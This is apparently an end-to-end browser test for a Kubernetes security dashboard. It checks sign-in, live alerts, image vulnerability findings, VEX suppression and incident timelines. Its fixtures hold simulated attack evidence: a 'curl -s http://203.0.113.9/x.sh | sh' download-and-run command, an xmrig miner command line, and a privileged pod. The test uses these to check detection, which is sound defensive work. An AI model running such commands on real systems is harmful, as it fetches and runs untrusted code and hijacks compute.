import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { saveRecommendations } from '../../src/center/recommendations.js';
import { refreshSecureScore } from '../../src/center/score-refresh.js';
import { createUser } from '../../src/center/users.js';
import type { ResourceRef } from '../../src/core/index.js';
import { AgentRuleEngine, loadAgentRules, sampleEvent, type AgentBatch } from '../../src/agent/index.js';
import { recordClusterGraph, type KubeObjectLike } from '../../src/graph/index.js';
import { createToken, openStore, replaceRunningImages, type Store } from '../../src/store/index.js';
import { importOsv } from '../../src/vulndb/index.js';
import { registryAvailable, startRegistry, type LocalRegistry } from '../registry/registry.js';
import { fixture, fixturesAvailable } from '../support/fixtures.js';
import { bearer } from '../support/app.js';
import { PALISADE_BIN, startProcess, type ServerProcess } from '../support/cli.js';
import { createTestPostgres, postgresAvailable, type TestPostgres } from '../support/postgres.js';
import { createCenterApp } from './support.js';

const CHROMIUM = process.env.PALISADE_CHROMIUM ?? '/usr/bin/chromium';
const WEB_DIST = path.resolve(import.meta.dirname, '../../web/dist/index.html');
const SHOTS = path.resolve(import.meta.dirname, '../../test-results/dashboard');
const inCi = process.env.CI === 'true';

function ready(): boolean {
  const missing = [!existsSync(CHROMIUM) && `${CHROMIUM} (apt-get install -y chromium)`, !existsSync(WEB_DIST) && 'web/dist (npm run build:web)'].filter(Boolean);
  if (missing.length && inCi) throw new Error(`the dashboard browser test needs ${missing.join(' and ')}`);
  return missing.length === 0;
}

/** The built server registers the dashboard once app.ts wires it; until then the same plugins run in-process. */
function builtServerHasDashboard(): boolean {
  const app = path.join(path.dirname(PALISADE_BIN), '../server/app.js');
  return existsSync(app) && readFileSync(app, 'utf8').includes('sessionRoutes');
}

const AUDIT = path.resolve(import.meta.dirname, '../../../shared/fixtures/audit');
const fixtureLines = (file: string) => readFileSync(path.join(AUDIT, file), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);

/**
 * The start of a real kube-apiserver log (audit2rbac demo.log, September 2017, audit.k8s.io/v1beta1)
 * as the webhook backend sends it: an EventList. Its first events are system:admin impersonating
 * bob (a low-severity alert; no toast).
 */
function demoLogBatch(): object {
  return { kind: 'EventList', apiVersion: 'audit.k8s.io/v1beta1', metadata: {}, items: fixtureLines('audit2rbac/demo.log').slice(0, 20) };
}

/**
 * A privileged pod created by a person (high severity: k8s.privileged-container), written on the
 * real audit.k8s.io/v1 event of the elastic-integrations fixture (fields, user, annotations) the
 * way a RequestResponse-level policy logs a pod create. No fixture holds one (fixtures README).
 */
function privilegedPodBatch(): object {
  const base = fixtureLines('elastic-integrations/kubernetes/test-audit.log')[0]!;
  const at = new Date().toISOString();
  const pod = {
    kind: 'Pod', apiVersion: 'v1', metadata: { name: 'node-debugger', namespace: 'payments' },
    spec: { containers: [{ name: 'shell', image: 'busybox:1.36', command: ['sleep', '3600'], securityContext: { privileged: true } }], hostPID: false },
  };
  const event = {
    ...base, level: 'RequestResponse', auditID: 'a1b2c3d4-0000-4000-8000-browser00001', verb: 'create',
    requestURI: '/api/v1/namespaces/payments/pods?fieldManager=kubectl-client-side-apply',
    user: { username: 'mallory@example.com', groups: ['system:authenticated'] },
    objectRef: { resource: 'pods', namespace: 'payments', name: 'node-debugger', apiVersion: 'v1' },
    requestObject: pod, responseObject: pod, responseStatus: { metadata: {}, code: 201 },
    requestReceivedTimestamp: at, stageTimestamp: at,
  };
  return { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: [event] };
}

/**
 * A batch as a node agent sends one after kubelet resolution: a miner started from a shell in the
 * container `shell` of pod build-runner (payments), through the real agent rule engine. The
 * container's image is the pushed image by digest when the registry ran, as the kubelet reports
 * a container status's imageID.
 */
function minerBatch(node: string, image: string): AgentBatch {
  const at = new Date().toISOString();
  const container = { id: 'c0ffee5d1e2a4b6c8d0e2f4a6b8c0d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c', runtime: 'containerd' as const, name: 'shell', pod: 'build-runner', namespace: 'payments', podUid: '7b1f6c1e-4a55-4b8e-9a57-0f7f2a1c9d31', image };
  const miner = sampleEvent({
    kind: 'exec', at, container,
    process: { name: 'xmrig', exe: '/tmp/.x/xmrig', argv: ['/tmp/.x/xmrig', '-o', 'stratum+tcp://pool.example.net:3333', '--donate-level=1'], uid: 0, container },
    ancestors: [{ pid: 4242, name: 'sh', exe: '/bin/sh', argv: ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh'] }, { pid: 4100, name: 'containerd-shim-runc-v2', exe: '/usr/bin/containerd-shim-runc-v2', argv: [] }],
  });
  const engine = new AgentRuleEngine(loadAgentRules());
  return {
    batchId: `browser-${Date.now()}`, sentAt: at,
    node: { name: node, kernel: '6.1.0-18-amd64', os: 'Debian GNU/Linux 12 (bookworm)', cores: 4, runtime: 'containerd', agentVersion: '0.1.0' },
    heartbeat: { at },
    events: [miner],
    alerts: engine.evaluate(node, miner),
  };
}

/** mallory creates the privileged pod build-runner whose container later runs the miner (audit). */
function buildRunnerBatch(image: string): object {
  const batch = privilegedPodBatch() as { items: Array<Record<string, unknown>> };
  const at = new Date().toISOString();
  const pod = {
    kind: 'Pod', apiVersion: 'v1', metadata: { name: 'build-runner', namespace: 'payments', uid: '7b1f6c1e-4a55-4b8e-9a57-0f7f2a1c9d31' },
    spec: { nodeName: 'node-7', containers: [{ name: 'shell', image, command: ['sleep', 'infinity'], securityContext: { privileged: true } }] },
  };
  const event = {
    ...batch.items[0], auditID: 'a1b2c3d4-0000-4000-8000-browser00002', requestURI: '/api/v1/namespaces/payments/pods',
    objectRef: { resource: 'pods', namespace: 'payments', name: 'build-runner', apiVersion: 'v1' },
    requestObject: pod, responseObject: pod, requestReceivedTimestamp: at, stageTimestamp: at,
  };
  return { ...batch, items: [event] };
}

/**
 * What a posture scan of prod lists (Kubernetes API objects, the fields the graph reads, written
 * by hand in the API's shapes): Service web exposed as a LoadBalancer on :443 selecting pod web-1,
 * which runs the pushed image as serviceaccount builder, bound alone to cluster-admin.
 */
function exposedWorkload(image: string): KubeObjectLike[] {
  const digest = image.slice(image.indexOf('@') + 1);
  return [
    { kind: 'Namespace', apiVersion: 'v1', metadata: { name: 'payments', uid: 'ns-payments' } },
    { kind: 'Node', apiVersion: 'v1', metadata: { name: 'node-7', uid: 'node-7-uid' } },
    { kind: 'Service', apiVersion: 'v1', metadata: { name: 'web', namespace: 'payments', uid: 'svc-web' }, spec: { type: 'LoadBalancer', selector: { app: 'web' }, ports: [{ port: 443, targetPort: 8443, protocol: 'TCP' }] }, status: { loadBalancer: { ingress: [{ ip: '203.0.113.40' }] } } },
    {
      kind: 'Pod', apiVersion: 'v1', metadata: { name: 'web-1', namespace: 'payments', uid: 'pod-web-1', labels: { app: 'web' } },
      spec: { serviceAccountName: 'builder', nodeName: 'node-7', containers: [{ name: 'app', image }] },
      status: { phase: 'Running', containerStatuses: [{ name: 'app', image, imageID: `${image.slice(0, image.indexOf('@'))}@${digest}`, containerID: 'containerd://5e1f0a9b3c7d' }] },
    },
    { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'builder', namespace: 'payments', uid: 'sa-builder' } },
    { kind: 'ClusterRole', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'cluster-admin', uid: 'cr-admin' }, rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }, { nonResourceURLs: ['*'], verbs: ['*'] }] },
    {
      kind: 'ClusterRoleBinding', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'builder-admin', uid: 'crb-builder' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'builder', namespace: 'payments' }],
    },
  ] as unknown as KubeObjectLike[];
}

const pod = (name: string): ResourceRef => ({ kind: 'pod', id: `prod/payments/pod/${name}`, name, cluster: 'prod', namespace: 'payments' });

/**
 * Every visible control can be reached by keyboard and has an accessible name. Runs in the page
 * (as a string: this project's TypeScript has no DOM types outside web/).
 */
const FIND_UNLABELLED = `(() => {
  const problems = [];
  for (const el of document.querySelectorAll('a[href], button, input, select, textarea')) {
    if (!(el.offsetWidth || el.offsetHeight)) continue;
    const aria = el.getAttribute('aria-label') || (el.getAttribute('aria-labelledby') ? 'by' : '');
    const isField = el instanceof HTMLInputElement || el instanceof HTMLSelectElement || el instanceof HTMLTextAreaElement;
    const named = isField ? Boolean(aria || (el.labels && el.labels.length)) : Boolean(aria || (el.textContent || '').trim());
    if (!named) problems.push('unlabelled ' + el.outerHTML.slice(0, 120));
    if (el.tabIndex < 0) problems.push('not keyboard reachable ' + el.outerHTML.slice(0, 120));
  }
  return problems;
})()`;

function unlabelledControls(page: Page): Promise<string[]> {
  return page.evaluate(FIND_UNLABELLED) as Promise<string[]>;
}

describe.skipIf(!ready())('the dashboard in a real browser', () => {
  let browser: Browser;
  let page: Page;
  let base = '';
  let adminToken = '';
  let clusterToken = '';
  let store: Store;
  let stop: () => Promise<void> = async () => {};
  let pgdb: TestPostgres | undefined;
  let mode = '';
  /** A real registry whose pushes the server scans (built-server mode, when the tools are installed). */
  let registry: LocalRegistry | undefined;
  /** The pushed image as a kubelet reports it (REPOSITORY@DIGEST), once scanned; a tag without a registry. */
  let runningImage = 'busybox:1.36';

  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    // PALISADE_WEB_TEST_IN_PROCESS=1 runs the in-process PGlite server even where a build exists.
    if (!process.env.PALISADE_WEB_TEST_IN_PROCESS && builtServerHasDashboard() && (await postgresAvailable())) {
      // The real built server; alerts come from a second connection (as a worker's would) over LISTEN/NOTIFY.
      mode = 'built server on PostgreSQL';
      pgdb = await createTestPostgres();
      const cwd = await mkdtemp(path.join(os.tmpdir(), 'palisade-web-'));
      const server: ServerProcess = await startProcess(['server', '--port', '0'], { cwd, env: { PALISADE_DATABASE_URL: pgdb.url } });
      base = server.url;
      store = await openStore({ databaseUrl: pgdb.url });
      adminToken = server.adminToken ?? (await createToken(store.db, 'admin', 'browser test')).secret;
      if (registryAvailable() && fixturesAvailable()) {
        // The fixture advisories, imported offline; the registry notifies the server of pushes.
        await importOsv(store, [fixture('osv', 'debian'), fixture('osv', 'npm')]);
        const ingest = await fetch(`${base}/api/v1/tokens`, { method: 'POST', headers: { ...bearer(adminToken), 'content-type': 'application/json' }, body: JSON.stringify({ scope: 'registry:local', name: 'local registry webhook' }) });
        registry = await startRegistry({ notifications: { url: `${base}/ingest/registry/local`, token: ((await ingest.json()) as { secret: string }).secret } });
        const connected = await fetch(`${base}/api/v1/registries`, { method: 'POST', headers: { ...bearer(adminToken), 'content-type': 'application/json' }, body: JSON.stringify({ name: 'local', url: registry.url, kind: 'distribution' }) });
        expect(connected.status).toBe(201);
      }
      stop = async () => {
        await registry?.stop();
        await server.stop();
        await store.close();
        await pgdb?.drop();
        await rm(cwd, { recursive: true, force: true });
      };
    } else {
      mode = 'in-process server on PGlite';
      const t = await createCenterApp();
      base = (await t.app.listen({ host: '127.0.0.1', port: 0 })).replace('localhost', '127.0.0.1');
      adminToken = t.adminToken;
      store = t.store;
      stop = () => t.close();
    }
    await createUser(store.db, { name: 'secops', role: 'admin', password: 'a long admin passphrase' });
    // The cluster's ingest token, as `palisade token create --scope cluster:prod` makes it.
    clusterToken = (await createToken(store.db, 'cluster:prod', 'prod audit webhook')).secret;
    // One scored recommendation with two unhealthy pods, and the score computed from it.
    await saveRecommendations(store.db, 'cluster:prod', [{
      policy: 'no-privileged-containers', title: 'Containers should not run privileged', severity: 'high', control: 'Manage access and permissions',
      remediation: 'Drop securityContext.privileged.', healthy: [pod('checkout')], unhealthy: [pod('node-agent'), pod('node-debugger')], notApplicable: [],
    }], new Date());
    await refreshSecureScore(store.db, new Date());
    await store.db.insertInto('clusters').values({ id: 'cl_prod', name: 'prod' }).execute();
    await store.db.insertInto('usage').values([
      { meter: 'core_hours', scope: 'cluster:prod', quantity: 16 * 24, source_key: 'browser-hb', at: new Date() },
      { meter: 'image_scans', scope: 'registry:acr', quantity: 40, source_key: 'browser-scan', at: new Date() },
    ]).execute();
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
    });
    page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await stop();
  });

  const shot = (name: string) => page.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });

  it('signs in with the keyboard alone', async () => {
    console.log(`dashboard browser test: ${mode} at ${base}`);
    await page.goto(base);
    await expect.poll(() => page.getByRole('heading', { name: 'Sign in to Palisade' }).isVisible()).toBe(true);
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('sign-in');
    // Tab from the top of the page: the mode radios, then the user name and password fields.
    await page.getByLabel('User name and password').focus();
    await page.keyboard.press('Tab');
    await page.keyboard.type('secops');
    await page.keyboard.press('Tab');
    await page.keyboard.type('a long admin passphrase');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Overview' }).waitFor();
    await page.getByText('Signed in as secops (admin)').waitFor();
    const cookies = await page.context().cookies();
    const session = cookies.find((c) => c.name === 'palisade_session')!;
    expect(session.httpOnly).toBe(true);
    expect(session.sameSite).toBe('Strict');
  });

  it('shows the overview', async () => {
    await page.getByRole('heading', { name: 'Secure score' }).waitFor();
    await page.getByRole('heading', { name: 'Coverage' }).waitFor();
    await expect.poll(() => page.getByRole('cell', { name: 'prod', exact: true }).first().isVisible()).toBe(true);
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('overview');
  });

  const ingestAudit = async (batch: object) => {
    const response = await fetch(`${base}/ingest/audit`, { method: 'POST', headers: { ...bearer(clusterToken), 'content-type': 'application/json' }, body: JSON.stringify(batch) });
    const body = (await response.json()) as { cluster: string; events: number; alerts: number; errorCount: number };
    expect({ status: response.status, body }).toMatchObject({ status: 200, body: { cluster: 'prod', errorCount: 0 } });
    return body;
  };

  it('shows alerts from a real audit batch live, with a toast for high severity, without a reload', async () => {
    await page.getByRole('link', { name: 'Security alerts' }).click();
    await page.getByRole('heading', { name: 'Security alerts' }).waitFor();
    await page.getByRole('status').filter({ hasText: 'Live' }).waitFor();
    await page.evaluate("window.marker = 'same page'");
    // 2017 events: their alert is the oldest by last seen, yet it arrives live at the top of the list.
    expect(await ingestAudit(demoLogBatch())).toMatchObject({ events: 20, alerts: 1 });
    await page.getByRole('link', { name: 'Request made while impersonating another identity', exact: true }).first().waitFor({ timeout: 15_000 });
    expect(await ingestAudit(privilegedPodBatch())).toMatchObject({ events: 1, alerts: 1 });
    await page.getByRole('link', { name: 'Privileged container created', exact: true }).first().waitFor({ timeout: 15_000 });
    await page.getByText('High severity alert: Privileged container created').waitFor();
    expect(await page.getByText(/severity alert: Request made while impersonating/).count()).toBe(0);
    // Still the same document: it arrived over server-sent events, not a reload.
    expect(await page.evaluate('window.marker')).toBe('same page');
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('alerts');
  });

  it('filters and searches alerts', async () => {
    await page.getByLabel('Search').fill('impersonating');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await page.getByRole('link', { name: 'Request made while impersonating another identity', exact: true }).first().waitFor();
    await expect.poll(() => page.getByRole('link', { name: 'Privileged container created', exact: true }).count()).toBe(0);
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.getByLabel('Severity').selectOption('high');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await page.getByRole('link', { name: 'Privileged container created', exact: true }).first().waitFor();
    await expect.poll(() => page.getByRole('link', { name: 'Request made while impersonating another identity', exact: true }).count()).toBe(0);
  });

  it('opens an alert with its evidence and remediation, and dismisses it', async () => {
    await page.getByRole('link', { name: 'Privileged container created', exact: true }).first().click();
    await page.getByRole('heading', { name: 'Privileged container created' }).waitFor();
    await page.getByText(/Remove securityContext\.privileged/).first().waitFor();
    // Evidence reads as a table, the resources it names linked to what else concerns them.
    const evidence = page.getByRole('table', { name: 'Evidence event 1' });
    await evidence.getByRole('row').filter({ hasText: 'user.username' }).getByText('mallory@example.com').waitFor();
    expect(await evidence.getByRole('row').first().textContent()).toBe('FieldValue');
    expect(await evidence.getByRole('link', { name: 'node-debugger' }).getAttribute('href')).toBe('/alerts?q=node-debugger&namespace=payments');
    expect(await evidence.getByRole('link', { name: 'payments' }).first().getAttribute('href')).toBe('/alerts?namespace=payments');
    expect(await page.getByText('"username": "mallory@example.com"').isVisible()).toBe(false);
    await page.getByText('T1611').waitFor();
    await page.getByLabel('Reason (recorded in the audit trail)').fill('node debugging session, approved');
    await page.getByRole('button', { name: 'Dismiss' }).click();
    await page.getByText('Alert dismissed.').waitFor();
    await page.getByText(/alert\.dismissed by user:secops/).waitFor();
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('alert-detail');
    const id = decodeURIComponent(new URL(page.url()).pathname.split('/').pop()!);
    const alert = (await (await fetch(`${base}/api/v1/alerts/${id}`, { headers: bearer(adminToken) })).json()) as { status: string; source: string; resource: { cluster?: string } };
    expect(alert).toMatchObject({ status: 'dismissed', source: 'audit', resource: { cluster: 'prod' } });
  });

  it('shows a pushed image\'s findings worst first, with the CVE, the fix and the command, each linked to its advisory', { timeout: 300_000 }, async (context) => {
    if (!registry) context.skip();
    await registry!.push(`oci:${fixture('images', 'debian12')}:app`, 'demo/app:1');
    // Pulling, unpacking and matching a Debian image takes seconds on an idle machine, minutes on a loaded one.
    const deadline = Date.now() + 240_000;
    let image: { digest: string; counts: Record<string, number> } | undefined;
    while (!image) {
      const items = ((await (await fetch(`${base}/api/v1/images?repository=demo/app`, { headers: bearer(adminToken) })).json()) as { items: Array<{ digest: string; lastScanned: string | null; counts: Record<string, number> }> }).items;
      image = items.find((i) => i.lastScanned);
      if (!image && Date.now() > deadline) throw new Error('the pushed image was not scanned within 240 s');
      if (!image) await new Promise((r) => setTimeout(r, 500));
    }
    const total = Object.values(image.counts).reduce((a, b) => a + b, 0);
    expect(total).toBeGreaterThan(0);
    runningImage = `${registry!.host}/demo/app@${image.digest}`;
    await page.goto(`${base}/images?digest=${encodeURIComponent(image.digest)}`);
    const findings = page.getByRole('region', { name: /Findings in sha256:/ });
    // The server pages the findings (100 a page) and says how many there are: nothing is cut silently.
    await findings.getByText(`${total} findings, worst first`).waitFor({ timeout: 30_000 });
    // Worst first: the severity column never gets worse going down the page.
    const rank = ['critical', 'high', 'medium', 'low', 'informational', 'unknown'];
    const severities = await findings.locator('tbody tr td:nth-child(2)').allTextContents();
    expect(severities.length).toBe(Math.min(total, 100));
    for (let i = 1; i < severities.length; i++) expect(rank.indexOf(severities[i]!)).toBeGreaterThanOrEqual(rank.indexOf(severities[i - 1]!));
    // Every finding links to its advisory; the CVE alias, fixed version and upgrade command are shown.
    const first = findings.locator('tbody tr').first();
    expect(await first.getByRole('link', { name: /advisory$/ }).getAttribute('href')).toMatch(/^https:\/\/osv\.dev\/vulnerability\//);
    // The CVE is named on every row whose advisory has one (as its id, or as an alias below a DEBIAN-/GHSA- id).
    expect(await findings.locator('tbody tr').filter({ hasText: /CVE-\d{4}-\d+/ }).count()).toBeGreaterThan(0);
    expect(await findings.locator('tbody td code').count()).toBeGreaterThan(0);
    if (total > 100) {
      // The next page continues where the first ended, no worse than its last row.
      const lastOfFirst = severities.at(-1)!;
      await findings.getByRole('button', { name: 'Next findings' }).click();
      await findings.getByText(`showing 101–${Math.min(total, 200)}`).waitFor();
      const next = await findings.locator('tbody tr td:nth-child(2)').allTextContents();
      expect(rank.indexOf(next[0]!)).toBeGreaterThanOrEqual(rank.indexOf(lastOfFirst));
      await findings.getByRole('button', { name: 'Previous findings' }).click();
      await findings.getByText('showing 1–100').waitFor();
    }
    // The server filters: high and above with a fix, then one package by name.
    await findings.getByLabel('Severity at or above').selectOption('high');
    await findings.getByLabel('Fix available only').check();
    await findings.getByRole('button', { name: 'Apply' }).click();
    await findings.getByText(/^\d+ matching findings?, worst first|^No findings match these filters/).waitFor();
    for (const row of await findings.locator('tbody tr').all()) {
      expect(['critical', 'high']).toContain(await row.locator('td:nth-child(2)').textContent());
      expect(await row.locator('td:nth-child(5)').textContent()).not.toBe('no fix yet');
    }
    await shot('image-findings-filtered');
    await findings.getByRole('button', { name: 'Clear filters' }).click();
    await findings.getByText(`${total} findings, worst first`).waitFor();
    const somePackage = (await findings.locator('tbody tr td:nth-child(3)').first().textContent())!.split(' (')[0]!;
    await findings.getByLabel('Package').fill(somePackage);
    await findings.getByRole('button', { name: 'Apply' }).click();
    await findings.getByText(/^\d+ matching findings?, worst first/).waitFor();
    const packages = await findings.locator('tbody tr td:nth-child(3)').allTextContents();
    expect(packages.length).toBeGreaterThan(0);
    for (const p of packages) expect(p).toContain(somePackage);
    await findings.getByRole('button', { name: 'Clear filters' }).click();
    await findings.getByText(`${total} findings, worst first`).waitFor();
    // The image's alert counts findings per severity, not the worst severity times the total.
    const alerts = ((await (await fetch(`${base}/api/v1/alerts?source=registry`, { headers: bearer(adminToken) })).json()) as { items: Array<{ title: string }> }).items;
    const title = alerts.find((a) => a.title.startsWith('Image demo/app gained'))?.title;
    expect(title).toMatch(/^Image demo\/app gained (\d+ critical, \d+ high|\d+ critical|\d+ high)-severity vulnerabilit(y|ies)$/);
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('image-findings');
  });

  it('lists a finding a VEX statement suppresses last, with who stated it, why and when, and filters on it', async (context) => {
    if (!registry) context.skip();
    const digest = runningImage.slice(runningImage.indexOf('@') + 1);
    // The app team's OpenVEX document: the lodash advisory does not affect this image (go-vex product form).
    const lodash = 'GHSA-35jh-r3h4-6jhm';
    const vex = {
      '@context': 'https://openvex.dev/ns/v0.2.0', '@id': 'https://palisade.test/vex/app-team-1', author: 'App Team <app@example.com>', role: 'Document Creator',
      timestamp: '2026-11-30T10:00:00Z', version: 1,
      statements: [{ vulnerability: { name: lodash }, products: [{ '@id': `pkg:oci/app@${encodeURIComponent(digest)}?repository_url=${registry!.host}/demo/app`, subcomponents: [{ '@id': 'pkg:npm/lodash' }] }], status: 'not_affected', justification: 'vulnerable_code_not_in_execute_path', impact_statement: 'the template helpers that use lodash.template never run' }],
    };
    const uploaded = await fetch(`${base}/api/v1/vex`, { method: 'POST', headers: { ...bearer(adminToken), 'content-type': 'application/json' }, body: JSON.stringify(vex) });
    expect(uploaded.status, await uploaded.clone().text()).toBe(201);
    await page.goto(`${base}/images?digest=${encodeURIComponent(digest)}`);
    const findings = page.getByRole('region', { name: /Findings in sha256:/ });
    await findings.getByText(/^\d+ findings, worst first\. 1 suppressed by VEX statements, listed last and not counted$/).waitFor({ timeout: 30_000 });
    // Listed last, greyed, with the statement in words.
    const last = findings.locator('tbody tr').last();
    await last.getByRole('link', { name: `${lodash} advisory` }).waitFor();
    expect(await last.getAttribute('class')).toBe('suppressed');
    const statement = last.getByLabel('VEX statement: not affected');
    await statement.getByText('Justification: vulnerable code not in execute path').waitFor();
    await statement.getByText('Impact: the template helpers that use lodash.template never run').waitFor();
    await statement.getByText(/^by App Team <app@example\.com>, .*, document /).waitFor();
    // Only the suppressed ones, then without them.
    await findings.getByLabel('Suppressed by VEX').selectOption('only');
    await findings.getByRole('button', { name: 'Apply' }).click();
    await findings.getByText('1 matching finding, worst first').waitFor();
    await shot('image-findings-vex');
    await findings.getByLabel('Suppressed by VEX').selectOption('exclude');
    await findings.getByRole('button', { name: 'Apply' }).click();
    await findings.getByText(/^\d+ matching findings, worst first/).waitFor();
    expect(await findings.getByRole('link', { name: `${lodash} advisory` }).count()).toBe(0);
    expect(await unlabelledControls(page)).toEqual([]);
  });

  it('shows an agent alert sent as a node agent sends its batch, with the process, container, pod and node readable and linked', async () => {
    // The pod is created by a person first (audit), then its container runs a miner (agent).
    expect(await ingestAudit(buildRunnerBatch(runningImage))).toMatchObject({ events: 1, alerts: 1 });
    const batch = minerBatch('node-7', runningImage);
    expect(batch.alerts.map((a) => a.rule)).toContain('agent.crypto-miner');
    const sent = await fetch(`${base}/ingest/agent`, { method: 'POST', headers: { ...bearer(clusterToken), 'content-type': 'application/json' }, body: JSON.stringify(batch) });
    expect(sent.status, await sent.clone().text()).toBe(200);
    expect(await sent.json()).toMatchObject({ cluster: 'prod', node: 'node-7', events: 1, alerts: { created: batch.alerts.length } });

    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Security alerts' }).click();
    await page.getByRole('heading', { name: 'Security alerts' }).waitFor();
    const row = page.getByRole('row').filter({ has: page.getByRole('link', { name: 'Crypto-miner activity', exact: true }) }).first();
    await row.waitFor({ timeout: 15_000 });
    expect(await row.textContent()).toContain('prod / payments / container/build-runner/shell');
    await row.getByRole('link', { name: 'Crypto-miner activity', exact: true }).click();
    await page.getByRole('heading', { name: 'Crypto-miner activity' }).waitFor();
    await page.getByText('rule agent.crypto-miner, source agent').waitFor();
    // The evidence in words: the command line, who started it, and where it ran.
    const host = page.getByRole('table', { name: 'Host evidence 1' });
    const cell = (name: string) => host.getByRole('row').filter({ has: page.getByRole('rowheader', { name, exact: true }) }).getByRole('cell');
    expect(await cell('Process').textContent()).toContain('/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level=1');
    expect(await cell('Process').textContent()).toContain('user id 0 (root)');
    expect(await cell('Started by').getByRole('listitem').allTextContents()).toEqual(['sh (pid 4242): sh -c curl -s http://203.0.113.9/x.sh | sh', 'containerd-shim-runc-v2 (pid 4100)']);
    expect(await cell('Container').textContent()).toContain(`image ${runningImage}`);
    // An image the kubelet reports by digest links to its findings.
    if (registry) expect(await cell('Container').getByRole('link', { name: `findings of image ${runningImage}` }).getAttribute('href')).toBe(`/images?digest=${encodeURIComponent(runningImage.slice(runningImage.indexOf('@') + 1))}`);
    expect(await host.getByRole('link', { name: 'alerts on container shell' }).getAttribute('href')).toBe(`/alerts?resource=${batch.alerts[0]!.resource.id}`);
    expect(await host.getByRole('link', { name: 'alerts on pod build-runner' }).getAttribute('href')).toBe('/alerts?q=build-runner&namespace=payments');
    expect(await host.getByRole('link', { name: 'payments' }).getAttribute('href')).toBe('/alerts?namespace=payments');
    // Every recorded field is one click away, as a table, not JSON.
    expect(await page.getByRole('table', { name: 'Evidence event 1' }).isVisible()).toBe(false);
    await page.getByText(/^Every recorded field \(\d+\)$/).click();
    await page.getByRole('table', { name: 'Evidence event 1' }).getByRole('row').filter({ hasText: 'processTree[1].argv' }).waitFor();
    expect(await unlabelledControls(page)).toEqual([]);
    await shot('agent-alert');
    // The node link opens the node in the inventory, as its heartbeat reported it.
    await host.getByRole('link', { name: 'node node-7 in the inventory' }).click();
    const nodes = page.getByRole('region', { name: 'Node node-7' });
    await nodes.getByRole('cell', { name: 'node-7', exact: true }).waitFor();
    await nodes.getByRole('cell', { name: 'Debian GNU/Linux 12 (bookworm) / 6.1.0-18-amd64' }).waitFor();
    await page.goBack();
    // The container link lists exactly that container's alerts.
    await page.getByRole('table', { name: 'Host evidence 1' }).getByRole('link', { name: 'alerts on container shell' }).click();
    await page.getByText(/Alerts on resource .* only/).waitFor();
    await page.getByRole('link', { name: 'Crypto-miner activity', exact: true }).first().waitFor();
    await expect.poll(() => page.getByRole('link', { name: 'Privileged container created', exact: true }).count()).toBe(0);
  });

  it('shows the incident joining the audit, agent and registry alerts of build-runner: timeline, tactics in order, entities and why each joined', async () => {
    type ListedIncident = { id: string; title: string; alerts: Array<{ title: string; source: string }>; entities: Array<{ kind: string; name: string }> };
    let incident: ListedIncident | undefined;
    await expect.poll(async () => {
      const { items } = (await (await fetch(`${base}/api/v1/incidents`, { headers: bearer(adminToken) })).json()) as { items: ListedIncident[] };
      incident = items.find((i) => i.alerts.some((a) => a.title === 'Crypto-miner activity'));
      return [...new Set(incident?.alerts.map((a) => a.source))].sort();
    }, { timeout: 15_000 }).toEqual(registry ? ['agent', 'audit', 'registry'] : ['agent', 'audit']);
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Incidents' }).click();
    await page.getByRole('heading', { name: 'Incidents', exact: true }).waitFor();
    await page.getByRole('link', { name: incident!.title }).first().click();
    await page.getByRole('heading', { name: incident!.title }).waitFor();
    // The timeline, oldest first: the pod created (audit) before the miner ran in it (agent).
    const timeline = page.getByRole('region', { name: 'Timeline, oldest first' });
    const rows = timeline.locator('tbody tr');
    await rows.first().waitFor();
    const titles = await rows.locator('td:nth-child(4) a').allTextContents();
    expect(titles.indexOf('Privileged container created')).toBeGreaterThanOrEqual(0);
    expect(titles.indexOf('Privileged container created')).toBeLessThan(titles.indexOf('Crypto-miner activity'));
    const times = await rows.locator('td:nth-child(1) time').evaluateAll((els) => els.map((e) => e.getAttribute('datetime')!));
    expect([...times].sort()).toEqual(times);
    // Each alert says why it joined, in words.
    for (const reason of await rows.locator('td:nth-child(5)').allTextContents()) expect(reason.length).toBeGreaterThan(3);
    // Tactics in kill-chain order.
    const tactics = await page.getByRole('region', { name: 'Tactics, in kill-chain order' }).getByRole('listitem').allTextContents();
    const order = ['Initial Access', 'Execution', 'Persistence', 'Privilege Escalation', 'Defense Evasion', 'Credential Access', 'Discovery', 'Lateral Movement', 'Collection', 'Command and Control', 'Exfiltration', 'Impact'];
    expect(tactics).toContain('Impact');
    expect(tactics.map((t) => order.indexOf(t))).toEqual(tactics.map((t) => order.indexOf(t)).sort((a, b) => a - b));
    // The entities, linked: the user, the pod, the container, the node, and the image with its finding.
    const entities = page.getByRole('region', { name: 'Entities' });
    await entities.getByText('mallory@example.com').waitFor();
